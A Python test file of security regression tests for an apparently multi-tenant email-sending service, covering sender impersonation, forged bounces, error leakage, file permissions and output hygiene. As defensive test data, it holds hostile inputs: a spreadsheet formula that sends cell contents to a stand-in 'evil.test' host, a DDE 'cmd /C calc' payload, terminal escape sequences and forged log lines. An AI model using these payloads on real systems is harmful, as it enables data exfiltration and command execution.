"""Security guarantees (the attack on a running Postbote): each test names the hole it closes and
fails when the fix is taken out. Through the API, the CLI's services and real receivers on
loopback, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import email
import io
import json
import logging
import os
import smtplib
import stat
import subprocess
import sys
import time
from email import policy

import pytest
from fastapi.testclient import TestClient

from postbote.api import create_api
from postbote.db import open_engine
from postbote.domains.returnpath import return_path
from postbote.inbound.apply import refused_reports
from postbote.recipients.suppression import find
from postbote.queue import message_status
from postbote.tenants import add_tenant, create_key
from postbote.testing import Receiver
from tests.conftest import MX1, MX3, free_port, run_worker
from tests.support.reports import arf, dsn


@pytest.fixture
def two_tenants(make_app, zone):
    for domain in ("kunde.test", "acme.test", "globex.test", "xn--bcher-kva.test"):
        zone.mail_domain(domain, (10, f"mx.{domain}", MX1))
    app = make_app()
    acme, globex = add_tenant(app.engine, "acme", "ACME GmbH"), add_tenant(app.engine, "globex", "Globex AG")
    client = TestClient(create_api(app))
    client.headers_of = {t.name: {"Authorization": f"Bearer {create_key(app.engine, t)}"} for t in (acme, globex)}
    client.app_ref = app
    return app, acme, globex, client


def _message(to: str, sender: str = "hr@acme.test") -> dict:
    return {"from": sender, "to": [to], "subject": "Einladung", "text": "Hallo"}


# Item 5: impersonation through the default sender.

@pytest.mark.parametrize("asked", ['"ACME GmbH via Postbote" <notification@platform.test>',
                                   "Sparkasse Sicherheit <notification@platform.test>"])
def test_the_default_senders_display_name_is_the_tenants_registered_name(two_tenants, smtp_port, asked):
    app, _, globex, client = two_tenants
    sent = client.post("/v1/messages", headers=client.headers_of["globex"], json=_message("anna@kunde.test", asked))
    assert sent.status_code == 202
    assert sent.json()["sender"]["used"] == "Globex AG via Postbote <notification@platform.test>"
    assert "registered name" in sent.json()["sender"]["note"]
    with Receiver(MX1, smtp_port) as mx:
        run_worker(app)
    mail = email.message_from_bytes(mx.messages[0].data, policy=policy.default)
    assert [a.display_name for a in mail["From"].addresses] == ["Globex AG via Postbote"]


# Item 7: suppression entries that do not suppress.

@pytest.mark.parametrize("stored, sent", [
    ("Lea <Lea@Kunde.test>", "lea@kunde.test"),
    ("  lea@kunde.test  ", "Lea Berg <LEA@kunde.test>"),
    ("jörg@bücher.test".replace("jörg", "joerg"), "joerg@xn--bcher-kva.test"),
    ("joerg@xn--bcher-kva.test", "Jörg <JOERG@BÜCHER.test>"),
])
def test_suppression_entries_are_normalised_like_sending(two_tenants, stored, sent):
    app, _, _, client = two_tenants
    a = client.headers_of["acme"]
    added = client.post("/v1/suppressions", headers=a, json={"address": stored, "reason": "manual"})
    assert added.status_code == 201
    refused = client.post("/v1/messages", headers=a, json=_message(sent))
    assert refused.status_code == 422 and refused.json()["error"]["details"][0]["reason"] == "suppressed"
    [entry] = client.get("/v1/suppressions", headers=a).json()
    assert entry["address"] == entry["address"].strip().lower() and "<" not in entry["address"]


@pytest.mark.parametrize("junk", ["not an address", "x" * 5_000_000, "lea@", "Lea <lea@kunde.test> <b@c.test>x"])
def test_what_is_not_an_address_is_refused_from_the_list(two_tenants, junk):
    app, _, _, client = two_tenants
    answer = client.post("/v1/suppressions", headers=client.headers_of["acme"], json={"address": junk, "reason": "manual"})
    assert answer.status_code == 422
    assert answer.json()["error"]["code"] in ("address_invalid", "request_invalid") and answer.json()["error"]["hint"]
    assert client.get("/v1/suppressions", headers=client.headers_of["acme"]).json() == []


def test_an_entry_with_a_slash_can_be_removed_through_the_api(two_tenants):
    app, _, _, client = two_tenants
    a = client.headers_of["acme"]
    assert client.post("/v1/suppressions", headers=a, json={"address": "a/b@kunde.test", "reason": "manual"}).status_code == 201
    removed = client.delete("/v1/suppressions/a%2Fb@kunde.test", params={"reason": "confirmed"}, headers=a)
    assert removed.status_code == 200 and removed.json() == {"address": "a/b@kunde.test", "removed": True}
    assert client.get("/v1/suppressions", headers=a).json() == []
    assert client.post("/v1/messages", headers=a, json=_message("a/b@kunde.test")).status_code == 202


# Item 2: forged bounces and complaints.

@pytest.fixture
def delivered(make_app, zone, smtp_port):
    """A message delivered to anna and lea, and the bounce receiver on MX3."""
    from postbote.compose import Draft
    from postbote.inbound import start_inbound
    from postbote.sending import send

    zone.mail_domain("kunde.test", (10, "mx.kunde.test", MX1))
    app = make_app()
    tenant = add_tenant(app.engine, "acme", "ACME GmbH")
    accepted = send(app.engine, app.settings, tenant, Draft("hr@acme.test", ["anna@kunde.test", "lea@kunde.test"], "Hallo", "x"))
    with Receiver(MX1, smtp_port) as mx:
        run_worker(app)
    controller = start_inbound(app.settings, app.engine, f"{MX3}:{smtp_port}")
    yield app, tenant, accepted, mx.messages[0].mail_from, (MX3, smtp_port)
    controller.stop()


def _rcpt_reply(where, rcpt: str) -> tuple[int, bytes]:
    with smtplib.SMTP(*where, timeout=10) as client:
        client.ehlo("mx.kunde.test")
        client.mail("")
        return client.rcpt(rcpt)


def _send_report(where, rcpt: str, raw: bytes) -> None:
    with smtplib.SMTP(*where, timeout=10) as client:
        client.ehlo("mx.kunde.test")
        client.sendmail("", [rcpt], raw)


def test_the_return_path_carries_a_mac_and_forged_ones_all_get_the_same_answer(delivered):
    app, _, accepted, real, where = delivered
    local, _, host = real.partition("@")
    assert local.startswith(f"bounces+{accepted.id}.") and len(local) <= 64  # RFC 5321 §4.5.3.1.1
    assert _rcpt_reply(where, real)[0] == 250
    expired = return_path(app.settings.SECRET_KEY, accepted.id, host, valid_days=30, now=time.time() - 31 * 86400)
    other_key = return_path("another-secret-key-of-someone-else", accepted.id, host, valid_days=30)
    day = local.split(".")[1]
    forged = [
        f"bounces+{accepted.id}@{host}",  # the bare id every recipient sees
        f"bounces+{accepted.id}.{day}.{'0' * 20}@{host}",
        f"bounces+{accepted.id}.{int(day) + 400}.{local.split('.')[2]}@{host}",  # the day moved, the MAC kept
        f"bounces+{'0' * 12}{'ab' * 8}.{day}.{local.split('.')[2]}@{host}",  # an unknown id
        expired, other_key,
    ]
    answers = {_rcpt_reply(where, address) for address in forged}
    assert len(answers) == 1 and next(iter(answers))[0] == 550
    assert accepted.id.encode() not in next(iter(answers))[1]
    # Nothing a forged report says reaches the message.
    with pytest.raises(smtplib.SMTPRecipientsRefused):
        _send_report(where, forged[0], arf("anna@kunde.test"))
    assert find(app.engine, 1, "anna@kunde.test") is None


def test_a_report_changes_only_recipients_of_its_message_and_refusals_stay_visible(delivered):
    app, tenant, accepted, real, where = delivered
    _send_report(where, real, arf("ceo@kunde.test"))  # a complaint naming someone the message never went to
    _send_report(where, real, dsn("bob@kunde.test"))
    assert find(app.engine, tenant.id, "ceo@kunde.test") is None and find(app.engine, tenant.id, "bob@kunde.test") is None
    assert {r.state for r in message_status(app.engine, accepted.id).recipients} == {"delivered"}
    refused = refused_reports(app.engine, since_seconds=3600)
    assert {(r["recipient"], r["kind"], r["tenant"], r["message_id"]) for r in refused} == {
        ("ceo@kunde.test", "complaint", "acme", accepted.id), ("bob@kunde.test", "dsn", "acme", accepted.id)}
    # A real report about a real recipient still works.
    _send_report(where, real, dsn("lea@kunde.test"))
    assert {r.address: r.state for r in message_status(app.engine, accepted.id).recipients}["lea@kunde.test"] == "bounced"


# Item 9: every failure is the error object, with a request id.

def test_unhandled_errors_and_the_frameworks_own_answers_are_the_error_object(two_tenants):
    app, _, _, client = two_tenants
    api = create_api(app)

    @api.get("/v1/broken")
    def broken() -> dict:
        raise RuntimeError("secret internals: /srv/postbote/db password=hunter2")

    raw = TestClient(api, raise_server_exceptions=False)
    a = client.headers_of["acme"]
    answers = {
        "since": (raw.get("/v1/report", params={"since": "99999999999999999999d"}, headers=a), 422, "duration_invalid"),
        "body": (raw.post("/v1/messages", headers={**a, "Content-Type": "application/json"},
                          content='{"from": "\xe4"}'.encode("latin-1")), 400, "request_unreadable"),
        "path": (raw.get("/v1/nothing-here", headers=a), 404, "path_not_found"),
        "method": (raw.put("/v1/messages", headers=a), 405, "method_not_allowed"),
        "crash": (raw.get("/v1/broken", headers=a), 500, "internal_error"),
    }
    for name, (response, status, code) in answers.items():
        assert response.status_code == status, name
        error = response.json()["error"]
        assert error["code"] == code and error["message"] and error["hint"], name
        assert len(error["request_id"]) == 16 and response.headers["x-request-id"] == error["request_id"], name
    assert "hunter2" not in answers["crash"][0].text and "RuntimeError" not in answers["crash"][0].text


# Item 10: private files, and no start without a real master key.

def _cli(env, cwd, *args):
    # umask 022, as on most systems: the files must be private anyway.
    return subprocess.run([sys.executable, "-m", "postbote", *args], env=env, cwd=cwd, capture_output=True, text=True,
                          timeout=60, preexec_fn=lambda: os.umask(0o022))


def test_the_database_its_wal_and_shm_and_the_config_file_are_private(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("POSTBOTE_")}
    env.update(POSTBOTE_CONFIG="postbote.toml", POSTBOTE_DATABASE_URL=f"sqlite:///{tmp_path}/var/postbote.db")
    result = _cli(env, tmp_path, "init")
    assert result.returncode == 0, result.stderr
    assert _cli(env, tmp_path, "tenant", "add", "acme").returncode == 0
    files = [tmp_path / "postbote.toml", tmp_path / "var/postbote.db", tmp_path / "var/postbote.db-wal",
             tmp_path / "var/postbote.db-shm"]
    engine = open_engine(f"sqlite:///{tmp_path}/var/postbote.db")  # keeps -wal and -shm open while looked at
    with engine.connect() as conn:
        conn.exec_driver_sql("SELECT 1")
        for path in files:
            assert path.exists(), path
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, (path, oct(path.stat().st_mode))
    engine.dispose()


@pytest.mark.parametrize("secret, code", [("", "secret_key_missing"), ("short", "secret_key_weak"),
                                          ("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "secret_key_weak"),
                                          ("changeme", "secret_key_weak")])
@pytest.mark.parametrize("command", [["worker", "--until-done", "--timeout", "1"], ["serve"]])
def test_a_missing_or_weak_secret_key_is_refused_at_start_with_the_command_that_makes_one(tmp_path, secret, code,
                                                                                          command):
    env = {k: v for k, v in os.environ.items() if not k.startswith("POSTBOTE_")}
    env.update(POSTBOTE_CONFIG="none.toml", POSTBOTE_DATABASE_URL=f"sqlite:///{tmp_path}/p.db",
               POSTBOTE_SECRET_KEY=secret, POSTBOTE_API_LISTEN=f"127.0.0.1:{free_port('127.0.0.1')}")
    result = _cli(env, tmp_path, *command)
    assert result.returncode == 1
    assert f"error[{code}]" in result.stderr and "secrets.token_urlsafe(32)" in result.stderr


# Item 13: output hygiene.

def test_the_csv_export_neutralises_spreadsheet_formulas(two_tenants):
    app, _, _, client = two_tenants
    a = client.headers_of["acme"]
    for address, detail in [("+lea@kunde.test", '=HYPERLINK("http://evil.test/?"&A1,"click")'),
                            ("-tom@kunde.test", "@SUM(1+1)*cmd|' /C calc'!A0"), ("anna@kunde.test", "plain")]:
        assert client.post("/v1/suppressions", headers=a, json={"address": address, "reason": "manual",
                                                                  "detail": detail}).status_code == 201
    rows = list(csv.reader(io.StringIO(client.get("/v1/suppressions/export", headers=a).text)))[1:]
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert {r[0] for r in rows} == {"'+lea@kunde.test", "'-tom@kunde.test", "anna@kunde.test"}
    assert "'=HYPERLINK(" in {r[5][:12] for r in rows}


def test_cli_output_escapes_markup_and_control_characters_from_stored_data(two_tenants, tmp_path):
    from tests.integration.test_cli import cli_env, postbote

    app, _, _, client = two_tenants
    hostile = "\x1b[2J\x1b]0;owned\x07[red]RED[/red]\r\u202e"
    assert client.post("/v1/suppressions", headers=client.headers_of["acme"],
                       json={"address": "lea@kunde.test", "reason": "manual", "detail": hostile}).status_code == 201
    env = {**cli_env(app), "COLUMNS": "250"}
    shown = postbote(env, tmp_path, "suppression", "list", "--tenant", "acme").stdout
    assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "[red]RED[/red]" in shown and "\\x1b[2J" in shown and "\\u202e" in shown
    as_json = json.loads(postbote(env, tmp_path, "suppression", "list", "--tenant", "acme", "--json").stdout)
    assert as_json[0]["detail"] == hostile  # the data itself is kept as it came


def test_log_lines_cannot_be_forged_through_input():
    from postbote.logs import configure

    stream = io.StringIO()
    configure("INFO", stream)
    try:
        log = logging.getLogger("postbote.inbound")
        log.warning("inbound %s: %s", "abc", "x\r\n2026-01-01 00:00:00,000 INFO postbote.domains: acme.test verified\x1b[2J")
        try:
            raise ValueError("boom\n2026-01-01 00:00:00,000 INFO forged")
        except ValueError:
            log.exception("failed on %s", "y\u2028z")
    finally:
        logging.getLogger().handlers.clear()
    lines = stream.getvalue().splitlines()
    assert len([line for line in lines if not line.startswith("    | ")]) == 2
    assert all(line.startswith("    | ") or line[:4].isdigit() for line in lines)
    assert "\\r\\n2026-01-01" in lines[0] and "\x1b" not in stream.getvalue() and "\u2028" not in stream.getvalue()
